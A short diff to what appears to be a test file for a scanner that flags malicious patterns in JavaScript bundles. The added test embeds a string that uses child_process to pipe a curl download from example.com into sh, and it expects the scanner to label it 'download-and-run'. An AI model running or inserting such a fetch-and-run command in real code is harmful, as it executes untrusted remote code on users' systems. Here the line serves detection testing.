@@ -51,6 +51,8 @@ describe('in a bundle', () => {
     const [own] = await found('dist/index.js', bundle('', shell));
     const [marked] = await found('dist/index.js', bundle(shell, ''));
     assert.equal(marked, own);
+    const runs = 'const cp = require("child_process"); cp.execSync("curl -s https://example.com/a.sh | sh");';
+    assert.deepEqual(await found('dist/index.js', bundle(runs, '')), ['download-and-run high library']);
   });
 });
 
